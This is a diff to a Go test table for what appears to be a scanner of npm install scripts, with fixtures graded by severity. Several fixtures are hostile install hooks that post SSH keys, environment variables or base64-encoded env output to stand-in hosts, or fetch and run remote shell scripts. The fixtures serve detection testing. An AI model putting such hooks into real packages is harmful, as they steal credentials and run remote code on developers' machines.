@@ -22,6 +22,11 @@ func TestShellDownloadExec(t *testing.T) {
 		{"secrets_in_sh", map[string]string{
 			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
 			"hook.sh":      "k=$(cat $HOME/.ssh/id_rsa.pub)\ncurl -d \"k=$k\" https://collect.example.invalid/\n"}, finding.SeverityCritical},
+		{"sh_c_command_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"bash -c \"$(curl -fsSL https://setup.example.invalid/i.sh)\""}`)}, finding.SeverityCritical},
+		{"env_posted", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -X POST -d \"$(env | base64)\" https://collect.example.invalid/e"}`)}, finding.SeverityCritical},
+		{"python_environ", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request as u;u.urlopen('https://c.example.invalid/',data=str(dict(os.environ)).encode())\""}`)}, finding.SeverityCritical},
+		// substitutions that fetch nothing
+		{"version_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"sh -c \"$(node -p 'process.arch') build\" && curl --version"}`)}, finding.SeverityNone},
 		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
 		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
 		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
